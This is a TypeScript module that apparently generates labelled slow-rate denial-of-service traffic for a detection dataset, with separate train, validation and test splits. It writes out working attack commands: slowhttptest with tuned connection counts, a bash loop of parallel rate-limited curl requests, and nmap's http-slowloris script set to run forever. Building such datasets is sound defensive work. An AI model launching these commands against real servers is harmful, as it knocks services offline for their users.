/** Slow-rate denial of service: connections that never finish what they began. */
import { fileURLToPath } from 'node:url';
import {
  type Family,
  type Stage,
  type Target,
  attacker,
  between,
  byPart,
  episode,
  reachable,
  spread,
} from './episode.ts';
import { alsoInside, fromDevice } from './inside.ts';
import { runOwn } from './scan-targets.ts';

const slowClient = fileURLToPath(new URL('../programs/slow-client.ts', import.meta.url));

const against =
  (tool: string, make: (stage: Stage, target: Target, seconds: number) => { argv: string[]; step: string }): Family =>
  (stage) => {
    const target = reachable(stage, 'web');
    if (target === undefined) return undefined;
    const from = attacker(stage);
    const seconds = stage.random.integer(22, 50);
    const { argv, step } = make(stage, target, seconds);
    return episode({
      class: 'slow_rate',
      tool,
      step,
      seconds,
      origin: from,
      argv,
      truth: [between(from.address, null)],
      to: target.address,
    });
  };

const slowhttptest = against('slowhttptest', ({ random, part }, target, seconds) => {
  const kind = random.pick(part === 'train' ? ['-H', '-H', '-B', '-B', '-X', '-X', '-R'] : ['-H', '-B', '-X']);
  const connections = Math.round(spread(random, 12, 300));
  const rate = Math.max(1, Math.round(connections / random.between(2, 15)));
  const every = String(random.integer(1, 15));
  const size = String(random.integer(8, 60));
  const more =
    {
      '-H': ['-i', every, '-x', size],
      '-B': ['-i', every, '-x', size, '-s', String(random.integer(2000, 20_000))],
      '-X': ['-w', '20', '-y', String(random.integer(100, 600)), '-n', every, '-z', size, '-k', '3'],
      '-R': ['-a', '10', '-b', String(random.integer(300, 3000))],
    }[kind] ?? [];
  const page = { '-X': 'snapshot.jpg', '-B': 'app/search' }[kind] ?? 'index.html';
  const settings = [kind, '-c', String(connections), '-r', String(rate), '-l', String(seconds), ...more];
  return {
    step: `slowhttptest ${settings.join(' ')}`,
    argv: ['slowhttptest', ...settings, '-p', '3', '-u', `http://${target.address}:${target.port}/${page}`],
  };
});

const own = (kinds: readonly string[]): Family =>
  against('own slow client', ({ random }, target) => {
    const orders = {
      kind: random.pick(kinds),
      host: target.address,
      port: target.port,
      connections: Math.round(spread(random, 8, 250)),
      rampMs: spread(random, 20, 900),
      everyMs: spread(random, 700, 14_000),
      seed: random.integer(1, 1e9),
    };
    return {
      step: `own slow client ${orders.kind} ${orders.connections} every ${orders.everyMs.toFixed(0)} ms`,
      argv: runOwn(slowClient, JSON.stringify(orders)),
    };
  });

const curls = against('curl --limit-rate', ({ random }, target) => {
  const parallel = random.integer(8, 70);
  const rate = random.integer(8, 400);
  return {
    step: `${parallel} curl --limit-rate ${rate}`,
    argv: [
      'bash',
      '-c',
      `trap 'kill 0' EXIT; for n in $(seq ${parallel}); do (while :; do curl -s -o /dev/null --limit-rate ${rate} --max-time ${random.integer(15, 60)} http://${target.address}:${target.port}/snapshot.jpg; sleep 0.3; done) & sleep ${random.between(0.02, 0.6).toFixed(2)}; done; wait`,
    ],
  };
});

const nmapScript = against('nmap http-slowloris', ({ random }, target) => {
  const parallel = random.integer(30, 200);
  return {
    step: `nmap --script http-slowloris --max-parallelism ${parallel}`,
    argv: [
      'nmap',
      '-n',
      '-Pn',
      '-p',
      String(target.port),
      '--script',
      'http-slowloris',
      '--max-parallelism',
      String(parallel),
      '--script-args',
      `http-slowloris.runforever=true,http-slowloris.send_interval=${random.integer(2, 12)}`,
      target.address,
    ],
  };
});

const tools: Family = (stage) =>
  stage.random.pick(
    byPart<Family>(stage.part, {
      train: [slowhttptest, slowhttptest, slowhttptest, own(['headers', 'read'])],
      validation: [slowhttptest, own(['headers', 'body']), own(['body'])],
      test: [nmapScript, curls, own(['body', 'chunks', 'trickle']), own(['body', 'chunks', 'trickle']), slowhttptest],
    }),
  )(stage);

export const slowRate = alsoInside(tools, fromDevice(tools, ['web']));
